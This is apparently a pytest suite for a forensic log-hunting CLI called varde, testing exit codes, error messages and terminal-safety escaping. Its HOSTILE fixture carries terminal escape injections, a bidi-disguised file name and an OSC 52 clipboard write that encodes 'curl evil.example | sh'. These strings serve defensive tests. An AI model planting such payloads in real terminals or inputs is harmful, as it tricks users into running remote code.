"""The ``varde`` command line: exit codes, error messages, the demo, and terminal safety.

Most runs go through Typer's CliRunner in this process (``--workers 0`` where it does not matter);
the tests about what reaches a real terminal run the installed ``varde`` script in a subprocess
with stdin, stdout and stderr not attached to a terminal, so Rich's width is its 80-column default.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import builders
import pytest
from rich.console import Console
from typer.testing import CliRunner

from varde import cli
from varde.cli import app

VARDE = Path(sys.executable).with_name("varde")

#: Everything a terminal could act on: C0 controls but newline, DEL, C1 controls, bidi controls.
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

#: Attacker-controlled text: colour change, OSC 52 (write the clipboard), a C1 CSI, a bidi
#: override that reverses what follows, Rich markup, bell, backspace and carriage return.
HOSTILE = (
    "\x1b[31mRED\x1b[0m \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x9b2J "
    "\u202eexe.txt [bold red]markup[/bold red] [link=http://evil.example]x[/link] \x07\x08\r"
)

runner = CliRunner()


def invoke(*args: str | Path) -> object:
    return runner.invoke(app, [str(a) for a in args], catch_exceptions=False)


def run_varde(
    *args: str | Path, env: dict | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess:
    environment = {
        k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LINES", "FORCE_COLOR", "TTY_COMPATIBLE")
    }
    environment.update(env or {})
    return subprocess.run(
        [str(VARDE), *map(str, args)],
        check=False,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=environment,
        cwd=cwd,
        timeout=120,
    )


def one_line_error(stderr: str) -> str:
    """The error message with any wrapping undone (content checks; the one-line rule is tested apart)."""
    assert stderr.startswith("varde: error:"), stderr
    assert "Traceback" not in stderr
    return " ".join(stderr.split())


def sysmon_event(
    record: int, command: str, host: str = "EXCH01.corp.example", parent: str = "C:\\Windows\\explorer.exe"
) -> dict:
    data = {"Image": "C:\\Windows\\System32\\notepad.exe", "ParentImage": parent, "User": "CORP\\alice"}
    return builders.sysmon_event(record, command, host, data)


@pytest.fixture
def benign(tmp_path: Path) -> Path:
    folder = tmp_path / "benign"
    folder.mkdir()
    (folder / "events.jsonl").write_text(json.dumps(sysmon_event(1, "notepad.exe notes.txt")) + "\n")
    return folder


# --- runs that work: exit code 0 -------------------------------------------------------------------


def test_demo_writes_a_report_with_findings(tmp_path: Path) -> None:
    result = invoke("demo", "--case", tmp_path / "case")
    assert result.exit_code == 0, result.output
    report = json.loads((tmp_path / "case" / "report.json").read_text())
    assert report["findings"]
    assert {f["severity"] for f in report["findings"]} & {"critical", "high"}
    assert "Findings" in result.stdout and "report.json" in result.stdout


def test_hunt_with_findings_exits_0(tmp_path: Path) -> None:
    evidence = builders.write_intrusion_events(tmp_path / "evidence")
    result = invoke("hunt", evidence.parent, "--case", tmp_path / "case", "--workers", "0")
    assert result.exit_code == 0, result.output
    assert json.loads((tmp_path / "case" / "report.json").read_text())["findings"]
    assert result.stderr == ""

    again = invoke("report", tmp_path / "case")
    assert again.exit_code == 0
    assert "Findings" in again.stdout


def test_hunt_without_findings_exits_0(tmp_path: Path, benign: Path) -> None:
    result = invoke("hunt", benign, "--case", tmp_path / "case", "--workers", "0")
    assert result.exit_code == 0, result.output
    assert "No findings." in result.stdout
    assert json.loads((tmp_path / "case" / "report.json").read_text())["findings"] == []


def test_quiet_hunt_prints_nothing(tmp_path: Path, benign: Path) -> None:
    result = invoke("hunt", benign, "--case", tmp_path / "case", "--workers", "0", "--quiet")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", "")


# --- runs that cannot work: non-zero, one message, no traceback ------------------------------------


def test_missing_evidence_path(tmp_path: Path) -> None:
    result = invoke("hunt", tmp_path / "nope", "--case", tmp_path / "case")
    assert result.exit_code == 2
    assert f"evidence path {tmp_path / 'nope'} does not exist" in one_line_error(result.stderr)
    assert not (tmp_path / "case").exists()


def test_case_folder_under_a_file(tmp_path: Path, benign: Path) -> None:
    (tmp_path / "a-file").write_text("x")
    result = invoke("hunt", benign, "--case", tmp_path / "a-file" / "case", "--workers", "0")
    assert result.exit_code == 3
    assert "cannot create the case folder" in one_line_error(result.stderr)


def test_case_folder_that_is_a_file(tmp_path: Path, benign: Path) -> None:
    (tmp_path / "a-file").write_text("x")
    result = invoke("hunt", benign, "--case", tmp_path / "a-file", "--workers", "0")
    assert result.exit_code == 3
    assert "is not a folder" in one_line_error(result.stderr)
    assert (tmp_path / "a-file").read_text() == "x"


@pytest.mark.parametrize("where", ["inside", "same", "around", "via-symlink"])
def test_case_folder_overlapping_the_evidence_is_refused(tmp_path: Path, benign: Path, where: str) -> None:
    before = sorted(p.name for p in benign.rglob("*"))
    if where == "via-symlink":
        os.symlink(benign, tmp_path / "link")
    case = {
        "inside": benign / "case",
        "same": benign,
        "around": tmp_path,
        "via-symlink": tmp_path / "link" / "case",
    }[where]
    result = invoke("hunt", benign, "--case", case, "--workers", "0")
    assert result.exit_code == 2
    assert "overlaps the evidence" in one_line_error(result.stderr)
    assert sorted(p.name for p in benign.rglob("*")) == before  # nothing created in the evidence


def test_report_of_a_folder_without_report_json(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    for folder in (tmp_path / "empty", tmp_path / "missing"):
        result = invoke("report", folder)
        assert result.exit_code == 3
        assert "has no report.json" in one_line_error(result.stderr)


@pytest.mark.parametrize("content", ["not json", '{"format": "varde.report/1"}', ""])
def test_report_of_an_invalid_report_json(tmp_path: Path, content: str) -> None:
    (tmp_path / "case").mkdir()
    (tmp_path / "case" / "report.json").write_text(content)
    result = invoke("report", tmp_path / "case")
    assert result.exit_code == 3
    assert "is not a valid report" in one_line_error(result.stderr)


def test_unknown_option_is_a_usage_error(tmp_path: Path) -> None:
    result = runner.invoke(app, ["hunt", str(tmp_path), "--case", str(tmp_path / "c"), "--frobnicate"])
    assert result.exit_code == 2


def test_error_is_one_line_even_with_a_long_path(tmp_path: Path) -> None:
    missing = tmp_path / ("deep-folder-" + "x" * 60) / "Security.evtx"
    result = run_varde("hunt", missing, "--case", tmp_path / "case")
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and result.stderr.endswith("\n"), result.stderr
    assert str(missing) in result.stderr


def test_invalid_report_json_error_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "report.json").write_text('{"x": 1}')
    result = run_varde("report", "c", env={"COLUMNS": "1000"}, cwd=tmp_path)  # short path, wide: no wrapping
    assert result.returncode == 3
    assert result.stderr.count("\n") == 1, result.stderr


# --- hostile strings never reach the terminal raw --------------------------------------------------


def _rule(title: str, author: str, rule_id: str) -> dict:
    return {
        "title": title,
        "id": rule_id,
        "status": "experimental",
        "description": "test rule: " + HOSTILE,
        "author": author,
        "date": "2026-11-27",
        "level": "high",
        "logsource": {"category": "process_creation", "product": "windows"},
        "detection": {
            "selection": {"CommandLine|contains": "varde-hostile-marker"},
            "condition": "selection",
        },
    }


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, Path]:
    """Evidence whose EventData and host name carry HOSTILE, and two rules that match it."""
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    events = [
        sysmon_event(1, "cmd.exe /c varde-hostile-marker " + HOSTILE, host="EXCH01" + HOSTILE),
        sysmon_event(2, "varde-hostile-marker", parent="C:\\" + HOSTILE + ".exe"),
    ]
    (evidence / ("events" + "\u202e" + "lmth.jsonl")).write_text(
        "".join(json.dumps(e) + "\n" for e in events), encoding="utf-8"
    )
    rules = tmp_path / "rules"
    rules.mkdir()
    # YAML is a superset of JSON: the control characters travel as \u escapes
    (rules / "benign_title.yml").write_text(
        json.dumps(_rule("Hostile Marker Seen", "tester", "0b7d6e3c-1f2a-4c5d-8e9f-a0b1c2d3e4f5"))
    )
    (rules / "hostile_title.yml").write_text(
        json.dumps(_rule("Evil " + HOSTILE, "author " + HOSTILE, "1c8e7f4d-2a3b-4d6e-9fa0-b1c2d3e4f5a6"))
    )
    return evidence, rules


def _assert_terminal_safe(text: str) -> None:
    assert not UNSAFE.findall(text), sorted(set(UNSAFE.findall(text)))
    assert "\x1b" not in text and "\u202e" not in text


def _assert_matched(case: Path) -> None:
    report = json.loads((case / "report.json").read_text(encoding="utf-8"))
    titles = {f["title"] for f in report["findings"]}
    assert "Hostile Marker Seen" in titles and "Evil " + HOSTILE in titles  # report.json keeps the raw text


def test_hostile_strings_are_escaped_in_hunt_and_report_output(
    tmp_path: Path, hostile: tuple[Path, Path]
) -> None:
    evidence, rules = hostile
    case = tmp_path / "case"
    result = invoke(
        "hunt", evidence, "--case", case, "--sigma", rules, "--no-builtin-rules", "--workers", "0"
    )
    assert result.exit_code == 0, result.output
    _assert_matched(case)
    _assert_terminal_safe(result.stdout)
    _assert_terminal_safe(result.stderr)
    flat = "".join(result.stdout.split())
    assert "Hostile" in flat and "[bold" in flat  # shown, and markup kept as text

    shown = invoke("report", case)
    assert shown.exit_code == 0
    _assert_terminal_safe(shown.stdout)


def _hostile_hunt(tmp_path: Path, hostile: tuple[Path, Path]) -> tuple[object, ...]:
    """Arguments of a hunt over the hostile evidence with the hostile rule only."""
    evidence, rules = hostile
    return ("hunt", evidence, "--case", tmp_path / "case", "--sigma", rules, "--no-builtin-rules", "--workers", "0")


def test_hostile_strings_in_the_real_script_output(tmp_path: Path, hostile: tuple[Path, Path]) -> None:
    result = run_varde(*_hostile_hunt(tmp_path, hostile), env={"COLUMNS": "200"})
    assert result.returncode == 0, result.stderr
    _assert_matched(tmp_path / "case")
    _assert_terminal_safe(result.stdout)
    _assert_terminal_safe(result.stderr)


def test_hostile_strings_on_a_colour_terminal(
    tmp_path: Path, hostile: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a terminal Rich adds its own colour codes (SGR); nothing else may come through."""
    screen = io.StringIO()
    monkeypatch.setattr(
        cli, "out", Console(file=screen, force_terminal=True, color_system="truecolor", width=250)
    )
    result = invoke(*_hostile_hunt(tmp_path, hostile))
    assert result.exit_code == 0
    text = screen.getvalue()
    assert "\x1b[" in text  # it is styled output
    assert "\x1b[31mRED" not in text and "\x1b]" not in text
    _assert_terminal_safe(re.sub("\x1b\\[[0-9;]*m", "", text))
    assert "\\u001b[31mRED" in text  # shown as a visible escape


def test_hostile_missing_path_in_error_message(tmp_path: Path) -> None:
    result = invoke("hunt", tmp_path / ("x" + HOSTILE.replace("/", "_")), "--case", tmp_path / "case")
    assert result.exit_code == 2
    _assert_terminal_safe(result.stderr)
    assert "\\u001b" in result.stderr


def test_an_internal_error_is_one_line_and_exit_1(tmp_path: Path, benign: Path, monkeypatch) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("Out of Memory Error: failed to pin block\n\x1b[31mred")

    monkeypatch.setattr("varde.pipeline.hunt", broken)  # the command imports it when it runs
    result = invoke("hunt", benign, "--case", tmp_path / "case", "--workers", "0")
    assert result.exit_code == 1
    line = one_line_error(result.stderr)
    assert "internal error, the hunt stopped: RuntimeError: Out of Memory Error" in line and "\x1b" not in line
